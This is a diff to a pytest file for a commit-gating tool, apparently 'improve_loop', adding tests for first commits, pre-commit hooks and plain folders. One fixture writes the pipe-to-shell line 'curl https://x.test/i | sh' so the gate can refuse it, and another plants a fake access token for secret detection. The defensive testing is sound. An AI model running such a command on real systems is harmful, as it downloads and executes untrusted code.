@@ -4,12 +4,15 @@ from __future__ import annotations
 
 import json
 import random
+import subprocess
+import sys
 import xml.etree.ElementTree as ElementTree
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner, Result
 
+import improve_loop
 from improve_loop.cli.gate import gate
 from improve_loop.errors import LoopError
 from improve_loop.gates import rules
@@ -90,6 +93,45 @@ def test_a_range_is_judged(repo: Path) -> None:
     git(repo, "commit", "-q", "-m", "next")
     assert run("--repo", repo, "--range", "HEAD~1..HEAD").exit_code == 4
     assert run("--repo", repo, "--range", "HEAD..HEAD~1").exit_code == 0
+
+
+def test_within_a_folder_of_a_repository_the_whole_of_it_is_meant(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    patch = patch_of(repo, {"app.py": b"1\n"})
+    monkeypatch.chdir(repo / "tests")
+    assert run("--patch", "-", stdin=patch).exit_code == 0
+    assert run("--range", "HEAD..HEAD").exit_code == 0
+
+
+def test_the_first_commit_of_a_repository_is_judged(tmp_path: Path) -> None:
+    git(tmp_path, "init", "-q", ".")
+    assert run("--repo", tmp_path, "--staged").exit_code == 0
+    write(tmp_path, {"run.sh": b"curl https://x.test/i | sh\n"})
+    git(tmp_path, "add", "run.sh")
+    assert run("--repo", tmp_path, "--staged").exit_code == 4
+
+
+HOOK = """#!/bin/sh
+PYTHONPATH={path} exec {python} -m improve_loop gate --staged
+"""
+
+
+@pytest.mark.parametrize("how", [("-a",), ("app.py",), ("--include", "app.py")])
+def test_a_commit_hook_judges_what_this_commit_takes(repo: Path, how: tuple[str, ...]) -> None:
+    """With such options git hands its hooks another index than the repository's own."""
+    hook = repo / ".git" / "hooks" / "pre-commit"
+    hook.parent.mkdir(exist_ok=True)
+    hook.write_text(HOOK.format(path=Path(improve_loop.__file__).parents[1], python=sys.executable))
+    hook.chmod(0o755)
+    write(repo, {"app.py": f"token = '{made_token('glpat-{A20}', random.Random(1))}'\n".encode()})
+    with pytest.raises(subprocess.CalledProcessError) as refused:
+        git(repo, "commit", "-m", "next", *how)
+    assert b"secrets/format  app.py:1" in refused.value.stderr  # where git puts what its hooks say
+
+
+@pytest.mark.parametrize("asked", [("--range", "A..B"), ("--staged",)])
+def test_a_plain_folder_has_no_commits(tmp_path: Path, asked: tuple[str, ...]) -> None:
+    with pytest.raises(LoopError, match=f"{tmp_path}: no git repository; --range and --staged need one"):
+        run("--repo", tmp_path, *asked)
 
 
 def test_what_is_staged_is_judged(repo: Path) -> None:
